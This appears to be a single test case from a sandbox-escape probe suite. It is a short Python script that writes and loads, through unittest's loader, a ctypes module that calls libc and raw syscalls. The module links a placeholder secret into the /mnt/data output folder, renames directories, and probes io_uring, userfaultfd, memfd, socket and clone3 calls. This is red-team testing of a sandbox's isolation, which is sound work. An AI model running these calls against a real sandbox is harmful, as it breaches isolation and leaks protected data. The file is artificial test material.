# class: symlink
# technique: symlink, link, rename over the folder itself by native code
# success: fetch_has @@CANARY@@
import sys, unittest
open('native_part.py', 'w').write("""
import ctypes, os
libc = ctypes.CDLL(None)
print(libc.symlink(b'@@SECRET@@', b'/mnt/data/out.csv'), libc.link(b'@@SECRET@@', b'/mnt/data/out2.csv'), libc.syscall(266, b'@@SECRET@@', -100, b'o3'), libc.syscall(265, -100, b'@@SECRET@@', -100, b'o4', 0))
print(libc.rename(b'/mnt/data', b'/mnt/data2'), libc.rename(b'/tmp/..', b'/x'))
print(libc.syscall(425, 8, 0), libc.syscall(323, 0), libc.syscall(319, b'x', 0), libc.syscall(53, 1, 5, 0, ctypes.create_string_buffer(8)), libc.syscall(41,16,3,0), libc.syscall(435, 0, 0))
""")
sys.path.insert(0, '')
unittest.defaultTestLoader.loadTestsFromName('native_part')
